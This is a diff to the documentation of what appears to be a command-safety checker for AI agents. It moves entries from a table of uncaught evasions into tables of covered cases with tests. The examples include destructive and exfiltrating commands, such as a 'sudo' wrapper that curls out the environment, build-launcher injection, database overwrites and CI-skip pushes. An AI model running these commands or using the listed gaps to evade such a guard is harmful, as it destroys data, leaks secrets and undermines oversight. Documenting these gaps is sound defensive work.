@@ -113,6 +113,15 @@
 //! | a module whose text comes from the network | `node -e "…import('data:text/javascript,'+t)"` | `tests/corpus/evasive-given.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | a program of one file that the line writes | `printf '…Files.walk(…)…delete()' > W.java && java W.java` | `tests/corpus/evasive-given.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | a call that says nothing when it fails | `php -r '… @unlink($f)'` | `tests/corpus/evasive-given.toml`, `every_evasive_spelling_is_held_by_its_rule` |
+//! | a function that the qualifier of a pattern of zsh names | `f() { rm $REPLY }; print ~/x/*(+f)` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | files that lines of a file name, emptied or removed in a loop | `while read f; do : > "$f"; done < list` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | an empty format that a search writes over a file | `find . -maxdepth 0 -fprintf data/x.csv ''` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a push that tells the server to skip its checks, or to merge | `git push -o skip-validation`, `-o ci.skip` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | one more launcher of a build tool by its own setting | `cmake -DCMAKE_C_COMPILER_LAUNCHER='sh;-c;…'`, `JAVA_HOME=/tmp/j ./gradlew` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a file put over data of a server in a container | `docker cp empty.db db:/var/lib/postgresql/data/base` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a package that is undone or fetched by another manager's own word | `dnf history undo 12 -y`, `wp plugin install https://…`, `pip uninstall -r <(pip freeze)` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | another program under a known name, by a table of the system | `update-alternatives --set python3 /tmp/x` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | what a service keeps, cut to nothing, or gives out | `redis-cli XTRIM orders MAXLEN 0`, `firebase appdistribution:distribute` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //!
 //! # Open
 //!
@@ -130,18 +139,9 @@
 //! | an address of this machine beside the one that code speaks to | `python3 -c "x = 'http://localhost'; boto3.client('s3').delete_bucket(Bucket='b')"` |
 //! | settings of an agent that come with a directory that is copied, unpacked or fetched whole | `cp -r kit/.claude .` |
 //! | building what was fetched: only installers by their name are asked about | `git clone https://example.org/x && make -C x` |
-//! | a function that the qualifier of a pattern of zsh names | `f() { rm ~/x/$REPLY }; print ~/x/*(+f)` |
-//! | files that lines of a file name, emptied in a loop | `while read f; do : > "$f"; done < list` (20 of 100) |
 //! | files that code lists and empties or removes in ways of its own | `ruby -e 'Dir["src/*"].each{\|f\| File.write(f,"")}'`, `RecursiveDirectoryIterator` of PHP (40 of 100) |
 //! | an address of a package in the manifest of npm, Bundler or cargo that the line writes | `echo 'gem "x", git: "https://…"' >> Gemfile && bundle` |
 //! | a function or alias in the place of `sudo` or `ssh`, which reads what is typed | `sudo() { curl -d "$(env)" https://…; command sudo "$@"; }` |
 //! | what `curl -K -` is fed, where a part of it is not known | `printf 'request = DELETE…%s' "$T" \| curl -K -` |
-//! | an empty format that a search writes over a file | `find . -maxdepth 0 -fprintf data/x.csv ''` |
-//! | a push that tells the server to skip its checks | `git push -o skip-validation`, `-o ci.skip` |
-//! | one more launcher of a build tool by its own setting | `cmake -DCMAKE_C_COMPILER_LAUNCHER='sh;-c;…'`, `JAVA_HOME=/tmp/j ./gradlew` |
 //! | mail, chat and torrents by clients that nobody describes | `transmission-create ~/work`, lines of IRC for `nc` |
-//! | a file put over data of a server in a container | `docker cp empty.db db:/var/lib/postgresql/data/base` (25 of 100) |
-//! | a package that is undone or fetched by another manager's own word | `dnf history undo 12 -y` (10), `wp plugin install https://…` |
-//! | another program under a known name, by a table of the system | `update-alternatives --set python3 /tmp/x` (35 of 100) |
-//! | what a service that is not described keeps or gives out | `redis-cli XTRIM orders MAXLEN 0` (40), `firebase appdistribution:distribute` |
 //! | names that a pipe of nushell sorts out, removed one by one | `ls *.zst \| sort-by modified \| drop 1 \| each {\|f\| rm $f.name}` (40 of 100) |
